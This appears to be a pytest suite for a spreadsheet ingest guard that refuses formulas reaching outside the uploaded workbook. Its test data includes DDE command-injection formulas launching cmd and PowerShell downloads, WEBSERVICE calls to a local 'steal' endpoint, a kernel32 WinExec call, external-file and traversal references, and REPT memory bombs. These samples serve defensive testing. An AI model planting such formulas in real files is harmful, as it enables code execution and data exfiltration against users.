"""Formulas saved without results are computed from this file's own cells, never followed.

A workbook written by a script holds formulas with no saved result, and Analyst computes
them. The formula is the uploader's: these tests plant a workbook with a secret figure
beside the upload (and above it, and at an absolute path), write formulas that reach for it
in every spelling Excel knows, and read the upload through the product's entry. The secret
must appear nowhere, the cell must be empty, the card must say why; cells that depend on a
refused one stay empty too (never a silent zero); the rest is computed.
"""

from __future__ import annotations

import time
from pathlib import Path
from typing import Any

import openpyxl
import pandas as pd
import pytest

from analyst.datacard import DataCard
from analyst.ingest import ingest_file
from analyst.ingest.formula_guard import MAX_NESTING, refusal

SECRET = 987_654.25


class Folder:
    def __init__(self, root: Path) -> None:
        self.input_dir = root / "input"


def plant(folder: Path, name: str = "payroll.xlsx") -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Data"
    for _ in range(1, 6):
        sheet.append([SECRET] * 5)
    book.save(folder / name)
    return folder / name


def upload(path: Path, formulas: list[str]) -> Path:
    """A table of Region, Revenue and one formula a row (saved without results)."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Sales"
    sheet.append(["Region", "Revenue", "Formula"])
    for i, formula in enumerate(formulas):
        sheet.append([f"R{i}", 100 + i, formula])
    path.parent.mkdir(parents=True, exist_ok=True)
    book.save(path)
    return path


def read(path: Path, root: Path) -> tuple[DataCard, pd.DataFrame]:
    (card,) = ingest_file(path, Folder(root))
    return card, pd.read_parquet(root / card.parquet_path)


def formula_column(frame: pd.DataFrame) -> list:
    return list(frame["Formula"]) if "Formula" in frame.columns else [None] * len(frame)


def said(card: DataCard) -> str:
    return " ".join(note.english for note in card.assumptions)


def nothing_of_the_secret(frame: pd.DataFrame) -> None:
    text = frame.to_csv()
    assert "987654" not in text and "987,654" not in text, text


EXTERNAL = [
    "='[payroll.xlsx]Data'!B2",
    "=[payroll.xlsx]Data!B2",
    "=[PAYROLL.XLSX]data!b2",
    "='./[payroll.xlsx]Data'!B2",
    "='../[payroll.xlsx]Data'!B2",
    "='../../[payroll.xlsx]Data'!B2",
    "='{up}/[payroll.xlsx]Data'!B2",
    "=SUM('[payroll.xlsx]Data'!A1:E5)",
    "=B2+'[payroll.xlsx]Data'!B2*0",
    "=IF(TRUE,'../[payroll.xlsx]Data'!C3,0)",
    "=VLOOKUP(1,'[payroll.xlsx]Data'!A1:B5,2,FALSE)",
]


@pytest.mark.parametrize("formula", EXTERNAL)
def test_a_reference_to_another_workbook_is_refused_and_nothing_of_it_is_read(tmp_path: Path,
                                                                             formula: str) -> None:
    uploads = tmp_path / "data" / "session" / "uploads"
    for folder in (uploads, uploads.parent, uploads.parent.parent):  # beside and above
        plant(folder)
    formula = formula.replace("{up}", str(uploads.parent))
    card, frame = read(upload(uploads / "sales.xlsx", [formula, "=B2*2"]), tmp_path / "ws")
    nothing_of_the_secret(frame)
    column = formula_column(frame)
    assert pd.isna(column[0]), column
    assert column[1] == 200  # the honest formula beside it is computed (B2 is 100)
    assert "another file or program" in said(card), said(card)


@pytest.mark.parametrize("formula", EXTERNAL[:6])
def test_what_depends_on_a_refused_cell_stays_empty_never_a_silent_zero(tmp_path: Path,
                                                                        formula: str) -> None:
    plant(tmp_path / "up")
    plant(tmp_path)
    card, frame = read(upload(tmp_path / "up" / "sales.xlsx", [formula, "=C2+1", "=C3*2", "=B4+1"]),
                       tmp_path / "ws")
    nothing_of_the_secret(frame)
    column = formula_column(frame)
    assert all(pd.isna(v) for v in column[:3]), column
    assert column[3] == 103  # B4 is 102


@pytest.mark.parametrize("formula", [
    "=cmd|'/C calc'!A0", "=CMD|' /C powershell -c iwr http://127.0.0.1:9/x'!A0",
    "=msexcel|'\\..\\..\\windows\\system32\\cmd.exe /c calc'!''", "=DDE(\"cmd\",\"/C calc\",\"A0\")",
    '=WEBSERVICE("http://127.0.0.1:9/steal")', '=_xlfn.WEBSERVICE("http://127.0.0.1:9/x")',
    '=FILTERXML(WEBSERVICE("http://127.0.0.1:9/x"),"//a")', '=INDIRECT("\'[payroll.xlsx]Data\'!B2")',
    '=indirect ("B2")', '=HYPERLINK("http://127.0.0.1:9/x","click")', '=CELL("filename")',
    '=INFO("directory")', '=RTD("server",,"topic")', '=CALL("kernel32","WinExec","JCJ","calc",0)',
])
def test_functions_and_programs_outside_the_file_are_refused_by_name(tmp_path: Path, formula: str) -> None:
    plant(tmp_path)
    card, frame = read(upload(tmp_path / "sales.xlsx", [formula, "=B2+1"]), tmp_path / "ws")
    nothing_of_the_secret(frame)
    column = formula_column(frame)
    assert pd.isna(column[0]) and column[1] == 101, column
    text = said(card)
    assert "outside the file" in text or "another file or program" in text, text


@pytest.mark.parametrize("times", ["1000000000", "10^9", "40000", "B2*1000", "2^31"])
def test_a_rept_bomb_leaves_the_cell_empty_at_once(tmp_path: Path, times: str) -> None:
    started = time.monotonic()
    card, frame = read(upload(tmp_path / "sales.xlsx", [f'=REPT("xyz",{times})', '=REPT("ab",3)']),
                       tmp_path / "ws")
    assert time.monotonic() - started < 30
    column = formula_column(frame)
    assert pd.isna(column[0]) and column[1] == "ababab", column


def streamed_book() -> tuple[openpyxl.Workbook, Any]:
    """A workbook of one sheet "Sheet" (as `Workbook().active`) written row by row: the
    same file for tens of thousands of rows, in about two thirds of the time."""
    book = openpyxl.Workbook(write_only=True)
    return book, book.create_sheet("Sheet")


@pytest.mark.parametrize("count", [20_001, 50_000])
def test_a_workbook_of_more_formulas_than_the_limit_is_read_with_the_cells_empty(tmp_path: Path,
                                                                               count: int) -> None:
    book, sheet = streamed_book()
    sheet.append(["Step", "Value", "Label"])
    sheet.append([1, 1, "start"])
    for n in range(3, count + 3):
        sheet.append([n - 1, f"=B{n - 1}+1", f"step {n - 1}"])
    book.save(tmp_path / "chain.xlsx")
    started = time.monotonic()
    card, frame = read(tmp_path / "chain.xlsx", tmp_path / "ws")
    assert time.monotonic() - started < 60
    assert frame["Value"].isna().sum() == count, frame.tail()
    assert f"{count:,}" in said(card) and "ANALYST_MAX_FORMULAS" in said(card), said(card)


@pytest.fixture(scope="module")
def slow_book(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """19,000 formulas each summing all above (seconds to write): written once, as the
    reader only reads it, whatever bound a case sets."""
    book, sheet = streamed_book()
    sheet.append(["Step", "Value", "Label"])
    sheet.append([1, 1, "start"])
    for n in range(3, 19_003):
        sheet.append([n - 1, f"=B{n - 1}+SUM($B$2:B{n - 1})*0", f"step {n - 1}"])
    path = tmp_path_factory.mktemp("slow") / "slow.xlsx"
    book.save(path)
    return path


@pytest.mark.parametrize("seconds", ["1", "2"])
def test_formulas_that_take_longer_than_the_bound_are_stopped_and_said(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, seconds: str, slow_book: Path) -> None:
    monkeypatch.setenv("ANALYST_FORMULA_SECONDS", seconds)
    card, frame = read(slow_book, tmp_path / "ws")
    assert "ANALYST_FORMULA_SECONDS" in said(card), said(card)
    assert frame["Value"].isna().sum() > 0


def test_formulas_within_the_file_are_still_computed(tmp_path: Path) -> None:
    formulas = ["=B2*2", "=SUM(B2:B4)", '=IF(B3>100,"big","small")', "=ROUND(B4/3,2)",
                "='Sales'!B2+1", '=CONCATENATE("a","[b.xlsx]")', '=LEN("x|y")', '=REPT("-",5)']
    card, frame = read(upload(tmp_path / "sales.xlsx", formulas), tmp_path / "ws")
    # Revenue is 100..107: B2 = 100, B3 = 101, B4 = 102 (a column of numbers and text is text).
    assert [str(v) for v in formula_column(frame)] == ["200", "303", "big", "34", "101", "a[b.xlsx]",
                                                       "3", "-----"]
    assert "outside the file" not in said(card) and "another file" not in said(card)


# The rule itself, over many spellings: what reaches outside is refused, what stays is not.
OUTSIDE = [
    "='C:\\Users\\x\\[book.xlsx]Sheet1'!A1", "=[1]Sheet1!A1", "=[2]!Total", "='[a b.xlsx]My sheet'!A1",
    "=SUM([book.xlsm]S!A1:A9)", "=\\\\server\\share\\[x.xlsx]S!A1", "='https://x.example/[b.xlsx]S'!A1",
    "=[book.xlsx]!Name", "=a|b!c", "=webservice(A1)", "=_xlfn.STOCKHISTORY(\"MSFT\",1)", "=Image(\"u\")",
    "=indirect(A1)", "=REGISTER.ID(\"x\",\"y\")",
]
INSIDE = [
    "=SUM(A1:A3)", "=Sales[Amount]", "=SUM(Sales[[#This Row],[Amount]])", "=[@Amount]*2",
    '="[book.xlsx]Sheet!A1"', "='Q1 2026'!B2", "=Sheet2!A1+Sheet3!B2", '=IF(A1="|",1,0)',
    "=VLOOKUP(A1,Prices!A:B,2,FALSE)", "=Table1[Col]+Sheet2!A1", "=INDEX(A1:A9,3)", "=CELLAR+1",
]


@pytest.mark.parametrize("formula", OUTSIDE)
def test_the_rule_refuses_every_way_out(formula: str) -> None:
    assert refusal(formula) is not None, formula
    assert refusal(formula.lower()) is not None or "|" in formula


@pytest.mark.parametrize("formula", INSIDE)
def test_the_rule_lets_the_files_own_formulas_through(formula: str) -> None:
    assert refusal(formula) is None, (formula, refusal(formula))


@pytest.mark.parametrize("depth", [MAX_NESTING + 1, 200, 5_000])
def test_nesting_and_length_beyond_excels_own_limits_are_refused(depth: int) -> None:
    assert refusal("=" + "ABS(" * depth + "1" + ")" * depth) is not None
    assert refusal("=" + "ABS(" * MAX_NESTING + "1" + ")" * MAX_NESTING) is None
    assert refusal("=" + "+".join(["A1"] * 3_000)) is not None
